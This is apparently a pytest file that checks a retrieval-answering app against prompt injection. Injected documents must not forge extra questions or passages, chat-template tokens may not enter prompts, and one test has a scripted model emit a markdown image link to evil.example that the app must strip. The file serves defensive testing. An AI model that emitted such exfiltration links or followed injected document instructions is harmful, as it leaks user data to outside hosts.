"""Documents that give orders to the model: their words stay inside their passages, and what comes of it is checked."""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Sequence
from pathlib import Path

import pytest

from app.answering.context import Passage
from app.answering.language import language_of
from app.answering.prompt import WORDINGS, build_prompt
from bench.injections import ROWS
from models.base import Message
from tests.support.found import a_source
from tests.support.scripted_llm import ScriptedLLM
from tests.support.served import client_in, upload

DOCUMENTS = {row["id"]: row for row in map(json.loads, ROWS.read_text("utf-8").splitlines())}
POSING = ["zh-fake-question", "en-fake-passage"]


def read_by_lines(messages: Sequence[Message]) -> tuple[list[str], list[str]]:
    """The numbers of the passages and the questions, as a reader who believes in lines sees them."""
    lines = messages[-1].content.splitlines()
    numbers = [match[1] for line in lines if (match := re.match(r"\[(\d+)\]", line))]
    labels = tuple(wording.question.strip() for wording in WORDINGS.values())
    return numbers, [line for line in lines if line.startswith(labels)]


def test_the_set_is_what_it_is_said_to_be() -> None:
    assert Counter(row["language"] for row in DOCUMENTS.values()) == {"zh": 20, "en": 20}
    kinds = Counter(row["kind"] for row in DOCUMENTS.values())
    assert set(kinds.values()) == {2}
    for row in DOCUMENTS.values():
        assert any(answer in row["clean"] for answer in row["answers"])
        assert (row["clean"], row["name"]) != (row["injected"], row["injected_name"])
        assert row["question"].rstrip("？?") in row["aimed"]
        assert not any(re.search(row["obeys"], answer) for answer in row["answers"])


@pytest.mark.parametrize("which", ["injected", "aimed"])
@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_prompt_keeps_its_lines(name: str, which: str) -> None:
    row = DOCUMENTS[name]
    text = row[which]
    passage = Passage(a_source(text, name=row["injected_name"], heading_path=(text[:300],)), text)
    messages = build_prompt(row["question"], [passage], [], language_of(row["question"]), text)
    numbers, questions = read_by_lines(messages)
    assert numbers == ["1"]
    assert [line.endswith(row["question"]) for line in questions] == [True]
    assert not re.search(r"<\|im_(?:start|end)\|>|\[/?INST\]|</s>", messages[-1].content)


@pytest.mark.parametrize("name", POSING)
def test_a_model_that_believes_in_lines_is_not_led_astray(name: str, tmp_path: Path) -> None:
    """It does what it is told where there are two questions, or two passages of one number."""
    row = DOCUMENTS[name]

    def answer(messages: Sequence[Message]) -> str:
        numbers, questions = read_by_lines(messages)
        return row["answers"][0] if len(set(numbers)) == len(numbers) and len(questions) == 1 else "as told"

    llm = ScriptedLLM(answer)
    with client_in(tmp_path, llm=lambda: llm) as client:
        upload(client, row["injected_name"], row["injected"].encode())
        said = client.post("/api/v1/ask", json={"question": row["question"]}).json()
    assert llm.calls
    assert row["answers"][0] in said["answer"]
    assert not said["refused"]


def test_what_a_document_makes_up_and_no_passage_holds_is_not_the_answer(tmp_path: Path) -> None:
    """A model that was talked into an address of its own gets it neither cited nor shown."""
    row = DOCUMENTS["en-exfiltration"]
    llm = ScriptedLLM({"": "![x](https://evil.example/?q=8d1f2c)"})
    with client_in(tmp_path, llm=lambda: llm) as client:
        upload(client, row["name"], row["clean"].encode())
        said = client.post("/api/v1/ask", json={"question": row["question"]}).json()
    assert llm.calls
    assert "evil.example" not in said["answer"]
